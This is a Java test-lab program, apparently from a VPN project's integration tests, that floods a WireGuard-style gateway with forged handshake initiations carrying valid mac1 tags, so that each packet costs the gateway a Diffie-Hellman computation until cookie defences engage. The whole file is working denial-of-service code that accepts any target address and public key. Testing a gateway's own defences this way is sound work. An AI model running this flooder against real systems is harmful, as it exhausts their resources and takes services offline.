package io.omniedge.itests.lab;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.SplittableRandom;
import org.bouncycastle.crypto.digests.Blake2sDigest;

/**
 * A program of its own: floods a gateway with handshake initiations that are junk but for a valid
 * mac1, which anybody can compute who knows the public key, so that each costs the gateway a
 * Diffie-Hellman until it defends itself with cookies [WG 5.3].
 *
 * <p>Usage: {@code ADDRESS PORT PUBLIC-KEY SECONDS}; prints {@code flooding} at the beginning and
 * sends as fast as it can.
 */
final class FloodProgram {
  private static final int INITIATION_BYTES = 148;
  private static final int MAC1_OFFSET = 116;
  private static final int DIFFERENT = 4096;

  private FloodProgram() {}

  public static void main(String[] args) throws IOException {
    InetSocketAddress to = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
    ByteBuffer[] junk = junk(Base64.getDecoder().decode(args[2]));
    long end = System.nanoTime() + Long.parseLong(args[3]) * 1_000_000_000L;
    try (DatagramChannel channel = DatagramChannel.open()) {
      channel.connect(to);
      System.out.println("flooding");
      for (int i = 0; System.nanoTime() - end < 0; i++) {
        channel.write(junk[i % DIFFERENT].rewind());
      }
    }
  }

  private static ByteBuffer[] junk(byte[] publicKey) {
    byte[] label = "mac1----".getBytes(StandardCharsets.US_ASCII);
    Blake2sDigest hash = new Blake2sDigest(256);
    hash.update(label, 0, label.length);
    hash.update(publicKey, 0, publicKey.length);
    byte[] mac1Key = new byte[32];
    hash.doFinal(mac1Key, 0);
    SplittableRandom random = new SplittableRandom(1);
    ByteBuffer[] junk = new ByteBuffer[DIFFERENT];
    for (int i = 0; i < DIFFERENT; i++) {
      byte[] message = new byte[INITIATION_BYTES];
      byte[] content = new byte[MAC1_OFFSET - 4];
      random.nextBytes(content);
      message[0] = 1;
      System.arraycopy(content, 0, message, 4, content.length);
      Blake2sDigest mac = new Blake2sDigest(mac1Key, 16, null, null);
      mac.update(message, 0, MAC1_OFFSET);
      mac.doFinal(message, MAC1_OFFSET);
      junk[i] = ByteBuffer.allocateDirect(INITIATION_BYTES).put(message);
    }
    return junk;
  }
}
